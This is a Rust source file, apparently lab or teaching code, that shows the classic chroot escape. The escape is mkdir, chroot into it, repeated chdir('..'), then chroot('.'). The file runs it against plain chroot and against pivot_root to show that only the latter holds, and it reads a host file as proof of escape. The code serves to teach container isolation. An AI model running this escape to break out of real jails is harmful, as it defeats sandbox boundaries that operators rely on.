//! Why chroot alone is not a container: the classic chroot escape, tried
//! against a chroot and against pivot_root.
//!
//! The escape needs only what root in a container keeps (`CAP_SYS_CHROOT`
//! is in Docker's default set): `mkdir x; chroot x` leaves the working
//! directory *outside* the new root, and the kernel stops `..` only at the
//! current root, so `chdir("..")` climbs to the real `/`; `chroot(".")`
//! then makes it the root again. After pivot_root and a detached old root
//! there is nothing above the container's `/` to climb to.

use std::ffi::CString;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;

use nix::errno::Errno;
use nix::sys::wait::{waitpid, WaitStatus};
use nix::unistd::Pid;

/// How the process is confined before it tries to escape.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Confinement {
    /// chroot(rootfs) + chdir("/"), no mount namespace: what `chroot(8)` does.
    Chroot,
    /// A mount namespace, the rootfs bind-mounted, pivot_root, old root detached.
    PivotRoot,
}

/// Errors of the demonstration itself (not of the escape).
#[derive(Debug, thiserror::Error)]
pub enum EscapeError {
    /// A path with a NUL byte.
    #[error("path contains a NUL byte")]
    Nul,
    /// Setting up the pipe or the child failed.
    #[error("{what} failed")]
    Sys {
        /// Which call.
        what: &'static str,
        /// The errno.
        #[source]
        source: Errno,
    },
    /// The confinement itself could not be set up (needs root).
    #[error("cannot confine the test process ({step}): run as root")]
    Confine {
        /// Which step.
        step: &'static str,
        /// The errno.
        #[source]
        source: Errno,
    },
}

/// What the confined process could see after trying to escape.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EscapeReport {
    /// The host file was readable: the escape worked.
    pub escaped: bool,
    /// What was read from it (at most 256 bytes), when it was.
    pub content: String,
    /// The errno of the failed open, when it was not.
    pub errno: Option<i32>,
}

/// In a child process: confine to `rootfs`, try the escape, then try to
/// read `host_file` (an absolute host path outside the rootfs).
pub fn try_escape(rootfs: &Path, host_file: &Path, how: Confinement) -> Result<EscapeReport, EscapeError> {
    let c = |p: &Path| CString::new(p.as_os_str().as_bytes()).map_err(|_| EscapeError::Nul);
    let root = c(rootfs)?;
    let target = c(host_file)?;
    let (rd, wr) = nix::unistd::pipe2(nix::fcntl::OFlag::O_CLOEXEC)
        .map_err(|source| EscapeError::Sys { what: "pipe2", source })?;
    let flags = match how {
        Confinement::Chroot => libc::SIGCHLD as libc::c_long,
        Confinement::PivotRoot => (libc::CLONE_NEWNS | libc::SIGCHLD) as libc::c_long,
    };
    use std::os::fd::AsRawFd;
    let wfd = wr.as_raw_fd();
    // SAFETY: fork-like clone(2) (no CLONE_VM, NULL stack); the child only
    // makes system calls on data prepared above and ends in _exit.
    let pid = unsafe { libc::syscall(libc::SYS_clone, flags, 0usize, 0usize, 0usize, 0usize) };
    if pid == 0 {
        // Child process: host namespaces (plus a new mount namespace for
        // PivotRoot), full root privileges; it confines itself, escapes if it can.
        let code = escape_child(&root, &target, how, wfd);
        // SAFETY: _exit(2) never returns and runs no destructors of the parent's copy.
        unsafe { libc::_exit(code) };
    }
    let pid = Errno::result(pid).map_err(|source| EscapeError::Sys { what: "clone", source })?;
    drop(wr);
    let mut buf = [0u8; 512];
    let mut got = Vec::new();
    loop {
        match nix::unistd::read(rd.as_raw_fd(), &mut buf) {
            Ok(0) => break,
            Ok(n) => got.extend_from_slice(&buf[..n]),
            Err(Errno::EINTR) => continue,
            Err(source) => return Err(EscapeError::Sys { what: "read", source }),
        }
    }
    let status =
        waitpid(Pid::from_raw(pid as i32), None).map_err(|source| EscapeError::Sys { what: "waitpid", source })?;
    let _ = std::fs::remove_dir(rootfs.join(".virtlab-escape"));
    // The child writes: one byte 'E' + content, or 'C' + errno (4 bytes), or
    // 'F' + step number + errno for a failed confinement.
    match (got.first(), status) {
        (Some(b'E'), _) => {
            Ok(EscapeReport { escaped: true, content: String::from_utf8_lossy(&got[1..]).into_owned(), errno: None })
        }
        (Some(b'C'), _) if got.len() >= 5 => Ok(EscapeReport {
            escaped: false,
            content: String::new(),
            errno: Some(i32::from_ne_bytes([got[1], got[2], got[3], got[4]])),
        }),
        (Some(b'F'), _) if got.len() >= 6 => {
            let step = ["chroot", "private", "bind", "chdir", "pivot_root", "umount2"].get(got[1] as usize).copied();
            Err(EscapeError::Confine {
                step: step.unwrap_or("set-up"),
                source: Errno::from_raw(i32::from_ne_bytes([got[2], got[3], got[4], got[5]])),
            })
        }
        (_, WaitStatus::Exited(_, code)) => {
            Err(EscapeError::Sys { what: "escape child", source: Errno::from_raw(code) })
        }
        _ => Err(EscapeError::Sys { what: "escape child", source: Errno::EIO }),
    }
}

fn escape_child(root: &CString, target: &CString, how: Confinement, out: i32) -> i32 {
    let send = |b: &[u8]| {
        // SAFETY: b is a readable buffer of b.len() bytes; out is the pipe's write end.
        unsafe { libc::write(out, b.as_ptr().cast(), b.len()) };
    };
    let fail = |step: u8, e: Errno| {
        let n = (e as i32).to_ne_bytes();
        send(&[b'F', step, n[0], n[1], n[2], n[3]]);
        1
    };
    use nix::mount::{mount, umount2, MntFlags, MsFlags};
    match how {
        Confinement::Chroot => {
            if let Err(e) = nix::unistd::chroot(root.as_c_str()) {
                return fail(0, e);
            }
        }
        Confinement::PivotRoot => {
            let none: Option<&str> = None;
            if let Err(e) = mount(none, "/", none, MsFlags::MS_REC | MsFlags::MS_PRIVATE, none) {
                return fail(1, e);
            }
            if let Err(e) =
                mount(Some(root.as_c_str()), root.as_c_str(), none, MsFlags::MS_BIND | MsFlags::MS_REC, none)
            {
                return fail(2, e);
            }
            if let Err(e) = nix::unistd::chdir(root.as_c_str()) {
                return fail(3, e);
            }
            if let Err(e) = nix::unistd::pivot_root(".", ".") {
                return fail(4, e);
            }
            if let Err(e) = umount2(".", MntFlags::MNT_DETACH) {
                return fail(5, e);
            }
        }
    }
    if let Err(e) = nix::unistd::chdir("/") {
        return fail(3, e);
    }
    // The escape, as root inside would do it.
    let inner = c"/.virtlab-escape";
    let _ = nix::unistd::mkdir(inner, nix::sys::stat::Mode::from_bits_truncate(0o700));
    let _ = nix::unistd::chroot(inner);
    for _ in 0..64 {
        let _ = nix::unistd::chdir("..");
    }
    let _ = nix::unistd::chroot(".");
    match nix::fcntl::open(target.as_c_str(), nix::fcntl::OFlag::O_RDONLY, nix::sys::stat::Mode::empty()) {
        Ok(fd) => {
            let mut buf = [0u8; 257];
            buf[0] = b'E';
            let n = nix::unistd::read(fd, &mut buf[1..]).unwrap_or(0);
            send(&buf[..1 + n]);
            0
        }
        Err(e) => {
            let n = (e as i32).to_ne_bytes();
            send(&[b'C', n[0], n[1], n[2], n[3]]);
            0
        }
    }
}
